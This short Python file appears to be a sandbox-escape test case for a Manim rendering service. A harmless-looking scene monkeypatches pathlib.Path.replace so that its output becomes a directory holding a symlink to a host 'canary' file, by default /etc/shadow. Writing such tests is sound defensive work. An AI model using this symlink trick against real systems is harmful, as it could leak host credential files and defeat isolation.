"""E5: the chunk is a directory holding a symlink to the host canary."""

import os
import pathlib

from manim import Circle, Create, Scene

PARAMS = {}


def plant(movie, target):
    os.mkdir(target)
    os.symlink(PARAMS.get("canary", "/etc/shadow"), os.path.join(target, "chunk.mp4"))
    return pathlib.Path(target)


class OutputDirectory(Scene):
    def construct(self):
        self.play(Create(Circle()), run_time=0.2)
        pathlib.Path.replace = plant
